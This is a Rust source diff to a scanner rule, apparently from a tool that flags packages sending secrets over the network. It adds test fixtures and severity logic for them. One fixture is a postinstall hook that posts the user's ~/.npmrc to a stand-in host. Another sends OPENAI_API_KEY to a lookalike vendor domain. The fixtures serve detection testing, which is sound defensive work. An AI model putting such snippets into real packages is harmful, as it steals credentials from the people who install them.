@@ -1,6 +1,8 @@
 //! A secret leaves over the network.
 
-use super::{Context, Declaration, Example, Finding, judge};
+use super::provenance::Whose;
+use super::{Context, Declaration, Example, Finding, judge, runs_on_install};
+use crate::flow::Flow;
 use crate::model::Severity;
 
 pub(super) static FINDING: Declaration = Declaration {
@@ -53,6 +55,35 @@ request.end(text);"#,
             ],
         },
         Example {
+            name: "a home page is said quickly: the npm configuration goes to the package's own host",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","homepage":"https://collect.invalid","scripts":{"postinstall":"node i.js"}}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs"), os = require("os"), https = require("https");
+https.request({ hostname: "collect.invalid", method: "POST" }).end(fs.readFileSync(os.homedir() + "/.npmrc", "utf8"));"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a host that begins with the vendor's name is not the vendor",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"fetch("https://openai-usage.invalid/v1", { headers: { authorization: process.env.OPENAI_API_KEY } });"#,
+                ),
+            ],
+        },
+        Example {
             name: "a reader of the configuration that sends nothing",
             severity: None,
             files: &[
@@ -88,8 +119,23 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
             let note = format!("{host} bears the name of the secret's own service");
             finding.lower(Severity::Low, "same-vendor", note);
         }
-        judge::by_destination(context, flow, &flow.sink, Severity::Low, &mut finding);
-        judge::by_reach(flow, &mut finding);
+        let own = own_severity(context, flow, host);
+        judge::by_destination(context, flow, &flow.sink, own, &mut finding);
+        judge::by_reach(context, flow, &mut finding);
         found.push(finding);
+    }
+}
+
+/// What remains where a secret goes to the package's own host, or to a registry. Whoever writes
+/// the package writes its home page, so that clears only keys that are named after a service, not
+/// those to the machine, its clouds and its forges.
+fn own_severity(context: &Context<'_>, flow: &Flow, host: &str) -> Severity {
+    let is_registry = context.home.whose(host) == Some(Whose::Registry);
+    match flow.source.id {
+        "credential.npm" if is_registry => Severity::Low,
+        _ if is_registry => Severity::Critical,
+        "credential.named" | "credential.service" => Severity::Low,
+        _ if runs_on_install(flow.reach) => Severity::High,
+        _ => Severity::Medium,
     }
 }
